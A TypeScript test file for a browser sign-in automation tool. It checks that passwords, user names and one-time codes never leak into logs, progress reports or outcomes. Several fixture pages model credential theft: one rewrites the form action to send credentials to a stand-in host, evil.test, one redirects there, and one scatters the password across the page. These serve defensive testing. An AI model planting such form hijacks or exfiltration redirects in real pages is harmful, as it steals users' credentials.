import { inspect } from "node:util";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { CdpClient } from "../../../src/sign-in/cdp/client";
import { describeLogin } from "../../../src/sign-in/drive/describe";
import { wipeFilled } from "../../../src/sign-in/drive/filled";
import type { SignInPorts, SignInRequest } from "../../../src/sign-in/drive/ports";
import {
  type Bench,
  CANARY,
  codeForm,
  connect,
  form,
  hasChromium,
  LOGIN,
  openBench,
  openTab,
  portsFor,
  requestFor,
  run,
  WELCOME,
} from "./harness";
import { redirectTo, type Site } from "./site";

const CODE = "908172";
const USER = "anna-u5er";
/** Each secret value as it would look in a text, in JSON, in an address, or in base64 from its first byte on. */
const TRACES = [CANARY, USER, CODE].flatMap((value) => [value.slice(0, 6), btoa(value.slice(0, 6)).slice(0, 8)]);

const scripted = (send: string) => `${LOGIN}<script>
  document.forms[0].addEventListener("submit", async (event) => {
    event.preventDefault();
    const data = Object.fromEntries(new FormData(event.target));
    ${send}
  });
</script>`;
/** A page that says what it knows wherever it can. */
const LOUD = scripted(`
  const said = data.pass + data.user;
  history.replaceState(null, "", "/login?" + encodeURIComponent(said) + "#" + encodeURIComponent(said));
  document.title = said;
  console.error(said);
  document.forms[0].id = said;
  document.forms[0].insertAdjacentHTML("beforeend", "<label></label>");
  document.querySelector("label").textContent = said;
  for (const field of document.querySelectorAll("input")) { field.name = said; field.placeholder = said; field.setAttribute("aria-label", said); }
  await fetch("/in", { method: "POST", body: new URLSearchParams(data) });
  setTimeout(() => { throw new Error(said); });
  alert(said);
`);

describe.skipIf(!hasChromium())("a run tells no secret value to anybody", () => {
  let site: Site;
  let browser: Bench["browser"];
  let client: CdpClient;
  let close: Bench["close"];
  const printed: unknown[] = [];
  const streams = [process.stdout, process.stderr] as const;
  beforeAll(async () => {
    ({ site, browser, client, close } = await openBench());
    site.show("portal.test/code", WELCOME);
    site.show("evil.test/in", WELCOME);
  });
  afterAll(() => close());

  const evil = () => site.url("evil.test/in");
  const pages: readonly (readonly [string, () => string, (() => Parameters<Site["show"]>[1])?])[] = [
    ["a sign-in", () => LOGIN],
    ["a sign-in with a code", () => LOGIN, () => redirectTo("/totp", 303)],
    ["a form that comes again", () => LOGIN, () => redirectTo("/login", 303)],
    ["a page that says all it knows", () => LOUD],
    [
      "a page that hashes",
      () => scripted(`await fetch("/in", { method: "POST", body: btoa(unescape(encodeURIComponent(data.pass))) });`),
    ],
    ["a redirect to another host", () => LOGIN, () => redirectTo(evil(), 307)],
    [
      "an action that changes",
      () => scripted(`event.target.action = ${JSON.stringify(evil())}; event.target.submit();`),
    ],
    ["an answer that never comes", () => LOGIN, () => () => undefined],
    [
      "a page of the server's that shows the values",
      () => LOGIN,
      () =>
        ({ body }, response) => {
          const said = `${new URLSearchParams(body)}`;
          response
            .writeHead(401, { "content-type": "text/html" })
            .end(`<title>${said}</title><h1>${said}</h1>${LOGIN.replaceAll("User name", said)}`);
        },
    ],
    [
      "a registration",
      () => form(`<input type="email"><input type="password"><input type="password"><button>Sign up</button>`),
    ],
  ];
  const ports: readonly (readonly [string, (told: unknown[]) => Partial<SignInPorts>])[] = [
    ["as it should be", () => ({})],
    ["cancelled after it sent", (told) => ({ isCancelled: () => JSON.stringify(told).includes(`"sent"`) })],
    ["with a port that fails", () => ({ beforeSend: () => Promise.reject(new Error(CANARY + CODE + USER)) })],
  ];
  // How the caller fails is tried on pages that know a value by then.
  const cases = pages.flatMap((page, at) =>
    ports
      .slice(0, at < 4 ? ports.length : 1)
      .map(([title, port], kind) => ({ title: `${page[0]}, ${title}`, page, port, describes: kind === 0 && at > 1 })),
  );

  it.each(cases)("of $title", async ({ page: [, page, answer], port, describes }) => {
    const told: unknown[] = [];
    const spies = streams.map((stream) =>
      vi.spyOn(stream, "write").mockImplementation((text: unknown) => Boolean(printed.push(String(text)))),
    );
    const consoles = (["log", "warn", "error", "info", "debug"] as const).map((name) =>
      vi.spyOn(console, name).mockImplementation((...said: unknown[]) => void printed.push(inspect(said))),
    );
    try {
      for (const mode of ["wire", "fill"] as const) {
        site.show("portal.test/totp", codeForm("/code"));
        site.show("portal.test/login", page());
        site.show("portal.test/in", answer?.() ?? WELCOME);
        const targetId = await openTab(client, site.url("portal.test/login"));
        const request: Partial<SignInRequest> = { mode, allowFallback: true, success: { timeoutMs: 2_000 } };
        const secrets = {
          username: USER,
          password: CANARY,
          codeAt: async (now: number) => ({ code: CODE, expiresAtMs: now + 20_000, period: 30 }),
        };
        const listening: Partial<SignInPorts> = {
          onProgress: (progress) => void told.push(progress),
          onPause: (reason) => void told.push(reason),
          judge: (url) => {
            told.push(url);
            return portsFor(["portal.test"]).judge(url);
          },
        };
        const { outcome, leases } = await run(browser.url, targetId, {
          request,
          secrets,
          ports: { ...listening, ...port(told) },
        });
        told.push(outcome, leases);
        if (mode === "fill" || !describes) continue;
        const own = await connect(browser.url);
        const bare = requestFor(["portal.test"], targetId, { success: { timeoutMs: 1_000 } });
        // A page that waits, or stands still in a dialog, may not answer at all.
        told.push(
          await describeLogin(own, bare, portsFor(["portal.test"])).then(
            ({ refusal }) => refusal,
            (fault: unknown) => fault,
          ),
        );
        own.close();
      }
    } finally {
      for (const spy of [...spies, ...consoles]) spy.mockRestore();
    }
    expect(told.length).toBeGreaterThan(0);
    const all = `${inspect(told, { depth: 20, maxStringLength: null })}${JSON.stringify(told)}`;
    for (const trace of TRACES) expect(all, trace).not.toContain(trace);
    for (const trace of TRACES) expect(printed.join("\n"), trace).not.toContain(trace);
  });

  it("of a form that was filled and left, or wiped", async () => {
    site.show("portal.test/login", LOGIN);
    const targetId = await openTab(client, site.url("portal.test/login"));
    const { outcome } = await run(browser.url, targetId, {
      request: { mode: "fill", submit: false },
      secrets: { username: USER },
    });
    expect(outcome.status).toBe("filled");
    const own = await connect(browser.url);
    const wiped = outcome.filled === null ? false : await wipeFilled(own, outcome.filled, portsFor([]));
    own.close();
    expect(wiped).toBe(true);
    for (const trace of TRACES) expect(JSON.stringify(outcome)).not.toContain(trace);
  });
});
